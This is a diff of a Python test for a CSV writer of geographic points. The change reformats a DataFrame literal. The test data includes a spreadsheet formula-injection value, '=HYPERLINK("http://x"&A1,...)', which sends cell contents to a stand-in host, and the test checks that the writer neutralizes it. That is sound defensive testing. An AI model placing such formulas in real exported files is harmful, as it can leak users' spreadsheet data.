@@ -13,7 +13,12 @@ NAMES = ['=HYPERLINK("http://x"&A1,"幼儿园")', "-3号楼", "@物业", "普通
 
 def test_quoted_names_are_read_without_the_quote(tmp_path):
     frame = pd.DataFrame(
-        {"lon": [116.3501 + i * 1e-4 for i in range(4)], "lat": [40.0001] * 4, "name": NAMES, "kind": ["x"] * 4}
+        {
+            "lon": [116.3501 + i * 1e-4 for i in range(4)],
+            "lat": [40.0001] * 4,
+            "name": NAMES,
+            "kind": ["x"] * 4,
+        }
     )
     path = write_csv(frame, tmp_path / "points.csv")
     assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")
